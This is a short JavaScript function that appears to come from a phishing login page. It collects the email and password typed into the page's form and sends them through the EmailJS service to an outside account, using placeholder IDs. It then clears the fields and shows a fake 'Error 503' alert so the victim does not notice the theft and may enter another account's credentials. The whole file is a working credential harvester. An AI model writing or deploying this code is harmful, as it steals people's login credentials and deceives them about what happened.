function forward() {
  var fields = {
    email: document.getElementById("email").value,
    password: document.getElementById("password").value
  };
  var service = "service_xxxxxxx";
  var layout = "template_xxxxxxx";

  emailjs.send(service, layout, fields)
    .then(function () {
      document.getElementById("email").value = "";
      document.getElementById("password").value = "";
      alert("Error 503. If the problem persists contact your administrator or sign in with another account");
    })
    .catch(function (e) { console.log(e); });
}
